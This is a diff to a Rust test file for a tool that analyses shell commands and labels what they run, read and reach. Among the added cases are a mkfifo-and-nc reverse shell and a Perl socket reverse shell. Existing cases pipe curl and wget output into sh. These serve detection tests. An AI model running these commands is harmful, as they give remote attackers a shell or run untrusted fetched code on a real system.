@@ -72,6 +72,7 @@ fn words_and_quotes() {
 #[test]
 fn expansions_of_what_is_known() {
     check(&[
+        ("cd \"$(date)\" && cat x", "run cat, run date, read $(…)/x", "opaque"),
         (
             "x=/a/b.c; cat ${x%.c} ${x##*/} ${x:1:1} ${x/b/d} ${x^^} ${#x} ${y:-/z} ${x:+/w}",
             "run cat, read /A/B.C, read /a/b, read /a/d.c, read /w, read /z, read 6, read a, read b.c",
@@ -416,6 +417,11 @@ fn changes_of_the_system() {
 #[test]
 fn code_that_is_fetched_or_decoded() {
     check(&[
+        (
+            "mkfifo f; cat f | sh -i 2>&1 | nc h.example 1 > f",
+            "run cat, run mkfifo, run nc, run sh, read f, write f, reach h.example:1",
+            "opaque listens",
+        ),
         ("curl h.example | sh", "run curl, run sh, reach h.example", "opaque fetched_code"),
         (
             "sh -c \"$(wget -qO- http://h.example)\"",
@@ -460,6 +466,11 @@ fn code_that_is_fetched_or_decoded() {
 #[test]
 fn code_in_other_languages_is_looked_through() {
     check(&[
+        (
+            "perl -e 'use Socket; connect(S, sockaddr_in(9, inet_aton(\"10.0.0.1\"))); exec(\"/bin/sh -i\")'",
+            "run perl, run sh, reach 10.0.0.1:9",
+            "opaque",
+        ),
         (
             "python3 -c 'import os; os.system(\"cat /a\"); os.remove(\"/b\")'",
             "run cat, run python3, read /a, remove /b",
